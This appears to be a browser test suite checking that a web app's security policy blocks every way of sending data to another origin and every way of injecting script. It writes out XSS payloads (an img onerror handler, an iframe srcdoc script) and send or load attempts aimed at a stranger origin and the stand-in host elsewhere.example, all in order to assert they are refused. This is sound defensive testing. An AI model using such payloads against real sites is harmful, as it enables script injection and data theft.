// "Your data never leaves this tab": the page's own policy refuses every way out, in the page and in its worker.

import assert from "node:assert/strict";
import { test } from "node:test";
import { launchAlone } from "../support/browser.js";
import { eventually } from "../support/expect.js";
import { serveStranger } from "../support/server.js";
import { bare, sharedExplorer, withExplorer } from "../support/world.js";

const shared = sharedExplorer(bare);

/** Tries to send to `address`; tells the name of the failure, or `sent`. */
const send = (address) => fetch(address, { method: "POST", body: "cells" }).then(() => "sent", (error) => error.name);

test("nothing can be sent to another origin", async () => {
  const stranger = await serveStranger();
  try {
    await withExplorer({ ...bare, launch: launchAlone }, async (_, { page, server }) => {
      const [worker] = await eventually("the engine", () => page.workers().length > 0 && page.workers());
      assert.ok(worker.url().startsWith("blob:"), "only a worker from a blob: address inherits the page's policy");
      const address = `${stranger.origin}/${"x".repeat(8)}`;
      for (const place of [page, worker]) {
        assert.equal(await place.evaluate(send, address), "TypeError");
        assert.equal(await place.evaluate(() => fetch(new URL("index.html", location.origin)).then((r) => r.type)), "basic", "its own origin is open");
      }
      const outcomes = await page.evaluate(async (address) => {
        const outcome = (start) => new Promise((resolve) => start(resolve));
        return {
          beacon: navigator.sendBeacon(address, "cells") && "queued",
          image: await outcome((done) => Object.assign(new Image(), { onload: () => done("sent"), onerror: () => done("refused"), src: address })),
          socket: await outcome((done) => {
            const socket = new WebSocket(address.replace("http", "ws"));
            socket.onopen = () => done("sent");
            socket.onerror = () => done("refused");
          }).catch((error) => error.name),
          inlineScript: await outcome((done) => {
            try {
              document.head.append(Object.assign(document.createElement("script"), { textContent: "window.injected = true" }));
            } catch {
              // Trusted Types refuse the text before the policy refuses the script.
            }
            done(window.injected ? "ran" : "refused");
          }),
        };
      }, address);
      // The service worker has no policy of its own: what it is told leads nowhere.
      await page.evaluate(async (address) => {
        const { active } = await navigator.serviceWorker.ready;
        active.postMessage(address);
        active.postMessage({ fetch: address });
      }, address);
      assert.equal(outcomes.image, "refused");
      assert.equal(outcomes.socket, "refused");
      assert.equal(outcomes.inlineScript, "refused");
      assert.deepEqual(stranger.requests, [], "nothing arrived");
      assert.ok(server.requests.every((url) => url.startsWith("/some/sub/path/") || url === "/index.html"), "the sub-path is never left");
    });
  } finally {
    await stranger.close();
  }
});

test("text becomes neither markup that runs nor a program", { timeout: 5 * 60_000 }, async () => {
  await shared(async (_, { page }) => {
    const outcomes = await page.evaluate(() => {
      const outcome = (attempt) => {
        try {
          attempt();
          return "taken";
        } catch (error) {
          return error.name;
        }
      };
      const box = document.createElement("div");
      return {
        handler: outcome(() => (box.innerHTML = "<img src=x onerror='window.injected = true'>")),
        frame: outcome(() => (box.innerHTML = "<iframe srcdoc='<script>parent.injected = true</script>'></iframe>")),
        worker: outcome(() => new Worker("https://elsewhere.example/x.js")),
        script: outcome(() => (document.createElement("script").src = "https://elsewhere.example/x.js")),
        text: outcome(() => (document.createElement("script").textContent = "window.injected = true")),
        timer: outcome(() => setTimeout("window.injected = true")),
        policy: outcome(() => trustedTypes.createPolicy("another", {})),
        again: outcome(() => trustedTypes.createPolicy("default", {})),
      };
    });
    for (const [what, outcome] of Object.entries(outcomes)) assert.match(outcome, /TypeError|EvalError/, what);
    const [worker] = page.workers();
    const inside = await worker.evaluate(() => {
      try {
        importScripts("https://elsewhere.example/x.js");
        return "taken";
      } catch (error) {
        return error.name;
      }
    });
    assert.notEqual(inside, "taken");
    await page.waitForTimeout(500);
    assert.equal(await page.evaluate(() => window.injected), undefined);
  });
});

test("the page loads from its own folder alone, whatever is done in it", { timeout: 10 * 60_000 }, async () => {
  // A shared page fails for a request to anywhere else; here every panel and dialog is opened meanwhile.
  await shared(async (explorer, { page, server }) => {
    for (const tab of await page.getByRole("tab").all()) await tab.click();
    for (const button of ["Export", "Help"]) {
      await explorer.button(button).click();
      await page.getByRole("dialog").waitFor();
      await page.keyboard.press("Escape");
    }
    assert.ok(server.requests.every((url) => url.startsWith("/some/sub/path/")), server.requests.join());
    const references = await page.evaluate(() =>
      [...document.querySelectorAll("[src], link[href], script[src]")].map((it) => it.src || it.href).filter((it) => new URL(it, document.baseURI).protocol.startsWith("http")),
    );
    const origin = new URL(page.url()).origin;
    assert.deepEqual(references.filter((it) => new URL(it, page.url()).origin !== origin), []);
  });
});
